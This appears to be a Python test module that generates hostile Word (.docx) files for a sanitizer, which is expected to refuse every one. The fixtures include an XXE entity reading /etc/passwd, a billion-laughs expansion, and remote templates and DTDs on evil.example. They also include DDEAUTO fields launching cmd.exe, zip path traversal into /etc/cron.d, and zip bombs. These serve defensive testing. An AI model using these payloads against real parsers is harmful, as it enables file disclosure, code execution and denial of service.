# SPDX-License-Identifier: AGPL-3.0-or-later
"""Word documents that run, reach out, grow or lie; all of them are refused."""

import struct
import warnings
import zipfile
from collections.abc import Iterator
from functools import cache
from io import BytesIO

from tests import papers
from tests.promises import hostile_pictures
from tests.promises.hostile import HTML, SCRIPT, Hostile

RELATIONS, TYPES, TEXT = "word/_rels/document.xml.rels", "[Content_Types].xml", "word/document.xml"
ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    "<!DOCTYPE a [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
)


def all_files() -> Iterator[Hostile]:
    for content in (*reaching(), *running(), *lying(), *growing()):
        yield Hostile("word", "a.docx", content, refused=True, told=papers.WORD)


def changed(name: str, old: str, new: str) -> bytes:
    parts = papers.word_parts()
    parts[name] = parts[name].replace(old.encode(), new.encode())
    return papers.zipped(parts)


def related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    relation = f'<Relationship Id="rId9" Type="{papers.OFFICE}/{kind}" Target="{target}"{mode}/>'
    rows = f'<Relationships xmlns="{papers.RELATIONS}">{relation}</Relationships>'
    return papers.zipped(papers.word_parts() | {RELATIONS: rows.encode()})


def reaching() -> Iterator[bytes]:
    yield related("attachedTemplate", "https://evil.example/a.dotm")
    yield related("attachedTemplate", r"\\evil\share\a.dotm")
    yield related("attachedTemplate", "file:///c:/a.dotm", ' TargetMode="external"')
    yield related("oleObject", "https://evil.example/a.rtf!x-usc:https://evil.example")
    yield related("image", "https://evil.example/pixel.png")
    yield related("frame", "https://evil.example/")
    yield related("subDocument", "//evil.example/a.docx", "")
    yield related("hyperlink", "javascript:alert(1)")
    yield related("hyperlink", "file:///etc/passwd")
    yield related("aFChunk", "a.html", "")
    for place in (TYPES, "_rels/.rels", TEXT):
        yield changed(place, '<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.0"?>' + ENTITY)
    yield changed(TEXT, '<?xml version="1.0" encoding="UTF-8"?>', LAUGHS)
    yield changed(TEXT, '<?xml version="1.0" encoding="UTF-8"?>', '<!DOCTYPE a SYSTEM "https://evil.example/a.dtd">')
    parts = papers.word_parts()
    wide = parts[TEXT].decode().replace('<?xml version="1.0" encoding="UTF-8"?>', ENTITY)
    yield papers.zipped(parts | {TEXT: ('<?xml version="1.0" encoding="UTF-16"?>' + wide).encode("utf-16")})


def running() -> Iterator[bytes]:
    yield papers.docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield papers.docx(**{"word/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0"})
    yield papers.docx(**{"word/activeX/activeX1.xml": b"<a/>"})
    yield papers.docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})
    yield papers.docx(**{"word/embeddings/a.docx": papers.docx()})
    yield papers.docx(**{"word/a.html": HTML})
    yield papers.docx(**{"word/media/a.svg": b"<svg>" + SCRIPT + b"</svg>"})
    yield papers.docx(**{"word/media/a.png": HTML})
    yield papers.docx(**{"word/media/a.exe": b"MZ"})
    yield papers.docx(**{"word/media/a.png": hostile_pictures.raw_png(60_000, 60_000, b"")})
    yield changed(TYPES, "wordprocessingml.document.main+xml", "wordprocessingml.template.main+xml")
    yield changed(TYPES, papers.WORD + ".main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
    yield changed(TYPES, papers.WORD + ".main+xml", "text/html")
    for words in ("DDEAUTO c:\\\\windows\\\\cmd.exe", 'INCLUDETEXT "https://evil.example/"', "DDE a b"):
        yield papers.docx(body=f"<w:p><w:r><w:instrText>{words}</w:instrText></w:r></w:p>")
    yield papers.docx(body='<w:p><w:fldSimple w:instr="DDEAUTO a"/></w:p>')
    split = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("DD", "EAU", "TO a"))
    yield papers.docx(body=f"<w:p>{split}</w:p>")


def lying() -> Iterator[bytes]:
    for name in ("../../../etc/cron.d/a.xml", "/etc/a.xml", "word\\..\\a.xml", "a\0.xml"):
        yield papers.docx(**{name: b"<a/>"})
    yield papers.zipped({"xl/workbook.xml": b"<a/>", TYPES: b"<Types/>"})
    yield papers.zipped({TYPES: b"<Types/>", TEXT: b"<a/>"})
    yield papers.docx(**{"WORD/DOCUMENT.XML": b"<a/>"})
    yield twice()
    yield locked()
    good = papers.docx()
    place = good.index(b"PK\x01\x02")
    yield good[:place] + good[place:].replace(struct.pack("<I", len(papers.word_parts()[TEXT])), struct.pack("<I", 9))
    yield good[: place - 30] + b"\xff" * 30 + good[place:]
    yield papers.docx(body="<w:p>" * 100_000)
    yield papers.docx(body="<w:p>" * 5_000 + "</w:p>" * 5_000)
    yield papers.docx(body="<w:t>\x01</w:t>")


def twice() -> bytes:
    """Two parts of one name: each reader takes another."""
    out = BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as archive:
        warnings.simplefilter("ignore")
        for parts in (papers.word_parts(), {TEXT: HTML}):
            for name, part in parts.items():
                archive.writestr(zipfile.ZipInfo(name), part)
    return out.getvalue()


def locked() -> bytes:
    """Every part says that it needs a password."""
    content = bytearray(papers.docx())
    for sign, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(sign)
        while place >= 0:
            content[place + flags] |= 1
            place = content.find(sign, place + 1)
    return bytes(content)


@cache
def growing() -> tuple[bytes, ...]:
    return tuple(_growing())


def _growing() -> Iterator[bytes]:
    yield papers.docx(**{"word/big.xml": b"<a>" + b" " * 59_000_000 + b"</a>"})
    yield papers.docx(**{"word/media/a.bmp": b"BM" + bytes(50_000_000)})
    yield papers.docx(**{f"word/part{number}.xml": b"<a/>" for number in range(3000)})
    yield papers.docx(**{f"word/part{number}.xml": b"<a>" + b"x" * 900_000 + b"</a>" for number in range(80)})
    yield overlapping()


def overlapping() -> bytes:
    """One packed part, named a thousand times: the whole is far larger than its parts."""
    content = papers.docx(**{"word/a.xml": b"<a>" + b"x" * 190_000 + b"</a>"})
    start = content.index(b"PK\x01\x02")
    rows, end = content[start : content.index(b"PK\x05\x06")], content[content.index(b"PK\x05\x06") :]
    last = rows[rows.rindex(b"PK\x01\x02") :]
    more = b"".join(
        last.replace(b"word/a.xml", b"word/%d.xml"[:6] + b"%03d"[:0] + b"%d.xml" % (n % 10)) for n in range(10)
    )
    out = content[:start] + rows + more
    size, count = len(rows + more), 14
    return out + end[:8] + struct.pack("<HHII", count, count, size, start) + end[20:]
